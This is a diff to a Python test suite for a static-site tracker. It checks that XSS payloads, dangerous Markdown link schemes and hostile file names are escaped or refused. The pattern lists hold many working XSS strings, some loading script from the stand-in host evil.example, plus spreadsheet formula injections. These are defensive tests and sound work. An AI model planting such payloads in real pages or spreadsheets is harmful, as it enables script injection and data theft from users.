@@ -29,6 +29,8 @@ from conftest import MINIMAL_SITE, build, check, running, write_files
 from htmlpage import html_pages
 
 PATTERNS = (  # shown as text wherever they are written; `alert(1)`/`__xss=1` get numbered
+    # (control characters, such as a NUL inside "<scr\0ipt>", are refused where they are
+    # written: tests/test_holes.py)
     "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
     "<script>window.__xss=1</script>", '"><script>alert(1)</script>', "'><script>alert(1)</script>",
     "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
@@ -42,7 +44,7 @@ PATTERNS = (  # shown as text wherever they are written; `alert(1)`/`__xss=1` ge
     "&#x28&#x31&#x29>",
     '<IMG SRC="jav\tascript:alert(1);">', '<IMG SRC="jav&#x09;ascript:alert(1);">',
     '<IMG SRC="jav&#x0A;ascript:alert(1);">', '<IMG SRC=" &#14;  javascript:alert(1);">',
-    '<IMG SRC="java\u0000script:alert(1);">', '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
+    '<SCRIPT/XSS SRC="//evil.example/x.js"></SCRIPT>',
     "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>", "<<SCRIPT>alert(1);//<</SCRIPT>",
     "<iframe src=javascript:alert(1) <", "<svg onload=alert(1)>", "<svg/onload=window.__xss=1>",
     "<svg><script>alert(1)</script></svg>", "<BODY ONLOAD=alert(1)>",
@@ -77,7 +79,7 @@ PATTERNS = (  # shown as text wherever they are written; `alert(1)`/`__xss=1` ge
     '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "<x onclick=alert(1)>click",
     'x" onmouseover="alert(1)', "x' onfocus='alert(1)' autofocus='", "<input autofocus onfocus=alert(1)>",
     '<object data="javascript:alert(1)">', "<img src=x:alert(alt) onerror=eval(src) alt=0>",
-    "<scr\u0000ipt>alert(1)</scr\u0000ipt>", "\u2028<script>alert(1)</script>\u2029",
+    "\u2028<script>alert(1)</script>\u2029",
     "<style>*{background:url(//evil.example/x.png)}</style>", "<link rel=prefetch href=//evil.example/>",
     '<img srcset="//evil.example/x.png 1x">', '=HYPERLINK("https://evil.example/?x="&A1,"click")',
     "=cmd|' /C calc'!A0", "**<img src=x onerror=alert(1)>**", "`<script>alert(1)</script>`",
@@ -93,7 +95,7 @@ LINK_PATTERNS = (  # Markdown whose link target has a dangerous scheme: an error
     "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
     "[x](javascript\\:alert(1))", "[x](jav&#x09;ascript:alert(1))", "[x](&#106;avascript:alert(1))",
     "[x](%6A%61vascript:alert(1))", "[x](<javascript:alert(1)>)", "[x]( javascript:alert(1) )",
-    '[x](javascript:alert(1) "title")', "[x](javascript://%0aalert(1))", "[x](jav\u0000ascript:alert(1))",
+    '[x](javascript:alert(1) "title")', "[x](javascript://%0aalert(1))",
     "[x](vbscript:msgbox(1))", "[x](VBScript:msgbox(1))",
     "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "[x](data:,alert(1))",
     "![x](javascript:alert(1))", '![x](x"onerror="alert(1))',
@@ -107,14 +109,14 @@ HOSTILE_NAMES = ("<svg onload=alert(1)>", '"><img src=x onerror=alert(1)>', "jav
                  "r\u202eevil", "\u00fcn\u00efcode", " space")
 STATIC_NAMES = ("<img src=x onerror=window.__xss=1>.pdf", '"onmouseover=alert(1)".pdf',
                 "javascript:alert(1).pdf", "{{7*7}} & é?.pdf")
-ACTION_ID = '"><svg onload=window.__xss=99>'
+ACTION_ID = "new-dashboard"  # a hostile one is an error (tests/test_holes.py)
 FIELDS = (
     "site.yml title", "description", "owner", "notice", "status labels", "point-kind labels",
     "point phrases", "letter title", "subject", "kind", "inspectorate", "inspectors", "letter paragraphs",
     "letter headings", "letter list items (points)", "letter table cells", "responsible-body cells",
     "fenced code and its info string", "update title", "author", "update summary", "update first paragraph",
     "update body", "poll question", "poll labels", "record title", "record owners", "record summary",
-    "timeline notes", "deadline-move notes", "sub-action ids", "sub-action titles", "sub-action owners",
+    "timeline notes", "deadline-move notes", "sub-action titles", "sub-action owners",
     "{url, title} evidence titles", "{ref, title} evidence titles", "static file names", "page title",
     "page body",
 )
@@ -300,13 +302,14 @@ def test_the_hostile_site_builds_and_its_output_carries_no_markup(served: tuple[
 
 
 def test_hostile_patterns_are_text_and_dangerous_links_are_links() -> None:
+    from tracker.safeyaml import Pos
     from tracker.texts import parse_markup
 
     for pattern in TEXT:
-        links = parse_markup(pattern).links
+        links = parse_markup(pattern, "x.md", Pos(1, 1), []).links
         assert all(t.startswith(("https:", "record:")) for t, _ in links), pattern
     for pattern in LINK_PATTERNS:
-        assert parse_markup(pattern).links, pattern
+        assert parse_markup(pattern, "x.md", Pos(1, 1), []).links, pattern
 
 
 def json_errors(site: Path) -> list[dict[str, Any]]:
@@ -360,8 +363,11 @@ def test_hostile_file_names_are_reported_not_used(make_site: Any, tmp_path: Path
     site = make_site(files)
     errors = json_errors(site)
     for rel in files:
-        assert any(e["path"].endswith(rel) and e["line"] == 1 and "not a valid slug" in e["message"]
-                   and re.search(r"'[a-z0-9-]+\.(md|yml)'$", e["hint"]) for e in errors), rel
+        assert any(e["path"].endswith(rel) and e["line"] == 1 and (
+            ("not a valid slug" in e["message"] and re.search(r"'[a-z0-9-]+\.(md|yml)'$", e["hint"]))
+            or e["message"].startswith(("this file name contains a control character",
+                                        "this file name contains an invisible character")))
+            for e in errors), rel
     assert build(site, tmp_path / "out").exit_code == 1 and not (tmp_path / "out").exists()
     print(f"\nhostile file names tried: {len(files)}, all refused")
 
